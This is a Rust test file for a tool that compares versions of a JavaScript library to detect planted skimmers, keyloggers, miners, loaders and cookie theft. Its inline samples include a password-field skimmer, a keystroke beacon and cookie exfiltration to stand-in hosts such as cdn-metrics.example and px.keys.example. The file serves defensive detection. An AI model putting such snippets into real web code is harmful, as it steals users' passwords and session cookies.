//! Attacks planted in a small library, each as somebody writes it and as somebody hides it: what each of them does is named.

#![expect(clippy::panic, reason = "a test says what went wrong by panicking")]

use pinfold_triage::{Capability, Change, Findings, Limits, TOGETHER, Together, compare};

const LIBRARY: &str = include_str!("planted/library.js");

/// The library with an attack in it.
fn with(planted: &str) -> String {
    LIBRARY.replace("/* planted */", planted)
}

fn found(planted: &str) -> Findings {
    let imitates = |host: &str| host.contains("vend0r").then(|| "vendor.example".to_owned());
    let findings = compare(Some(LIBRARY.as_bytes()), with(planted).as_bytes(), Limits::default(), &imitates);
    assert_eq!(findings.not_analysed, None);
    assert_eq!(findings.change, Change::Code);
    findings
}

#[track_caller]
fn names(form: &str, planted: &str, capabilities: &[Capability], hosts: &[&str]) {
    let findings = found(planted);
    for capability in capabilities {
        let fact = findings.facts.iter().find(|fact| fact.capability == *capability);
        let Some(fact) = fact else { panic!("{form}: {capability:?} is not among {:#?}", findings.facts) };
        assert!(fact.new > fact.reviewed && !fact.sites.is_empty(), "{form}: {fact:?}");
    }
    let found: Vec<&str> = findings.hosts.iter().map(|host| &*host.host).collect();
    assert_eq!(found, hosts, "{form}");
    let hidden = findings.hosts.iter().any(|host| host.hidden);
    assert!(form == "hidden" || !hidden || planted.contains("atob"), "{form}: {:?}", findings.hosts);
}

macro_rules! planted {
    ($($name:ident: [$($capability:ident),*], [$($host:literal),*];)*) => {$(
        mod $name {
            use super::{Capability, names};

            #[test]
            fn in_plain_sight() {
                let planted = include_str!(concat!("planted/", stringify!($name), ".plain.js"));
                names("plain", planted, &[$(Capability::$capability),*], &[$($host),*]);
            }

            #[test]
            fn hidden() {
                let planted = include_str!(concat!("planted/", stringify!($name), ".hidden.js"));
                names("hidden", planted, &[$(Capability::$capability),*], &[$($host),*]);
            }
        }
    )*};
}

planted! {
    skimmer: [FormListener, CardField, Beacon], ["metrics.collect-stats.example"];
    keylogger: [KeyListener, Image], ["px.keys.example"];
    beacon: [Beacon, Cookies], ["chat.vend0r.example"];
    loader: [InjectedScript], ["cdn.second-stage.example"];
    eval: [Eval, Fetch], ["c2.eval-stage.example"];
    miner: [Worker, WebAssembly, WebSocket, Miner], ["pool.hashes.example"];
    conditional: [Automation, Location, Date, DynamicImport], ["late.payload.example"];
    formjack: [Form], ["pay.form-jack.example"];
    password: [PasswordField, FormListener, Fetch], ["in.pass-words.example"];
    frame: [Frame], ["login.vendor-chat.example"];
    storage: [Storage, Cookies, Xhr], ["drop.store-all.example"];
    clipboard: [Clipboard], [];
    worker: [ServiceWorker, InjectedScript], ["sw.persist.example"];
    message: [PostMessageAny, Storage], [];
    html: [Html, DocumentWrite], ["pix.html-inject.example"];
    debugger: [Debugger, Automation, Navigation], ["clean.bounce.example"];
    rotated: [Fetch, Cookies], ["rot.array-table.example"];
}

#[test]
fn a_host_that_looks_like_the_vendors_is_marked() {
    let findings = found(include_str!("planted/beacon.plain.js"));
    assert_eq!(findings.hosts.first().and_then(|host| host.imitates.as_deref()), Some("vendor.example"));
}

#[test]
fn the_library_itself_is_no_news() {
    let findings = found("function unused() { return 1; }");
    assert_eq!(findings.facts, []);
    assert_eq!(findings.hosts, []);
}

fn together(planted: &str) -> Vec<String> {
    found(planted).together.iter().map(Together::text).collect()
}

#[test]
fn what_a_skimmer_takes_and_where_it_sends_it_is_said_together() {
    let skimmer = "function send(form) {\n  var taken = form.querySelector('input[type=password]').value;\n  \
                   fetch('https://cdn-metrics.example/c', { method: 'POST', body: atob('YWJj') + taken });\n}";
    let findings = found(skimmer);
    let [said] = findings.together.as_slice() else { panic!("{:?}", findings.together) };
    let function = said.function.as_ref().unwrap();
    assert_eq!((&*function.name, said.line), ("send", function.line));
    assert_eq!(
        said.text(),
        format!(
            "one new function, `send` at lines {}–{}, newly: names password fields; decodes text, or makes it of numbers; sends \
             or loads with fetch, to cdn-metrics.example",
            said.line, said.last_line
        )
    );
}

#[test]
fn what_is_spread_over_functions_without_a_name_is_said_of_the_one_that_they_stand_in() {
    let split = "function start() { document.addEventListener('keydown', function (e) { keep(e) }); setInterval(function () { \
                 navigator.sendBeacon('https://px.keys.example/', kept) }, 5000) }";
    let said = together(split);
    assert_eq!(said.len(), 1, "{said:?}");
    assert!(said[0].contains("listens to keys; sends a beacon, to px.keys.example"), "{said:?}");
}

#[test]
fn a_function_that_did_one_thing_before_is_said_to_do_the_other_newly() {
    let old = "function send(a) { fetch('/menu', { body: a }) } send(1);";
    let new = "function send(a) { fetch('/menu', { body: a + document.cookie }) } send(1);";
    let findings = compare(Some(old.as_bytes()), new.as_bytes(), Limits::default(), &|_| None);
    let [said] = findings.together.as_slice() else { panic!("{:?}", findings.together) };
    assert_eq!(
        said.text(),
        "one changed function, `send` at line 2, newly: reads or sets cookies; with something else than before: sends or \
         loads with fetch"
    );
}

#[test]
fn what_takes_the_place_of_as_many_uses_elsewhere_is_said_together_where_it_goes_to_a_new_host() {
    let old = "function menu() { fetch('/menu') } function who() { keep(document.cookie) } menu(); who();";
    let new = "function draw(a, b) { paint(a); fetch('https://px.example/', { body: document.cookie + b }) } draw();";
    let findings = compare(Some(old.as_bytes()), new.as_bytes(), Limits::default(), &|_| None);
    let [said] = findings.together.as_slice() else { panic!("{:?}", findings.together) };
    assert!(said.newly.is_empty(), "{said:?}");
    assert!(said.text().contains("sends or loads with fetch, to px.example"), "{}", said.text());
}

#[test]
fn the_function_that_a_library_is_wrapped_in_is_changed_and_not_new() {
    let of = |more: &str| format!("(function () {{ show(1); {more} }})(); (() => {{ other(2) }})();");
    let new = of("fetch('https://a.example/', { body: document.cookie });");
    let findings = compare(Some(of("").as_bytes()), new.as_bytes(), Limits::default(), &|_| None);
    assert_eq!(findings.function_counts.added, 0);
    let [said] = findings.together.as_slice() else { panic!("{:?}", findings.together) };
    // The lines of what is new in it, and not all of its own.
    assert!(
        said.text().starts_with("one changed function without a name, at line 3, newly: "),
        "{}",
        said.text()
    );
}

#[test]
fn a_sentence_on_one_function_names_what_it_does_without_what_explains_that() {
    let said = together(
        "function send() { window['fe' + 'tch']('https://a.example/', { body: document['coo' + 'kie'] }); }",
    );
    assert_eq!(said.len(), 1, "{said:?}");
    assert!(said[0].contains("; hides the name of a global; sends"), "{said:?}");
}

#[test]
fn code_outside_functions_is_said_too_and_one_thing_alone_is_not() {
    let old = "show(1);";
    let said = |new: &str| {
        let findings = compare(Some(old.as_bytes()), new.as_bytes(), Limits::default(), &|_| None);
        findings.together.iter().map(Together::text).collect::<Vec<_>>()
    };
    assert_eq!(
        said("show(1); var c = document.cookie; fetch('https://a.example/', { body: c });"),
        ["code outside functions newly: reads or sets cookies; sends or loads with fetch, to a.example"]
    );
    assert_eq!(said("show(1); fetch('/a'); fetch('/b');"), [""; 0]);
    assert_eq!(
        said("show(1); function a() { fetch('/a') } function b() { return document.cookie }"),
        [""; 0]
    );
}

#[test]
fn many_functions_with_long_names_fill_no_page() {
    let function = |number: usize| {
        format!(
            "function {}{number}() {{ fetch('/{number}', {{ body: document.cookie }}) }}\n",
            "n".repeat(5000)
        )
    };
    let said = together(&(0..50).map(function).collect::<String>());
    assert_eq!(said.len(), TOGETHER);
    assert!(said.iter().all(|said| said.len() < 300), "{said:?}");
}

#[test]
fn a_host_that_is_named_elsewhere_than_where_something_goes_to_it_is_known_to_be_reached() {
    let findings = found("var to = 'https://cdn-metrics.example/c';\nfunction f() {\n  fetch(to);\n}");
    assert_eq!(findings.hosts.first().and_then(|host| host.reached_by), Some(Capability::Fetch));
    let findings = found("var to = 'https://cdn-metrics.example/c';\nshow(to);");
    assert_eq!(findings.hosts.first().and_then(|host| host.reached_by), None);
}
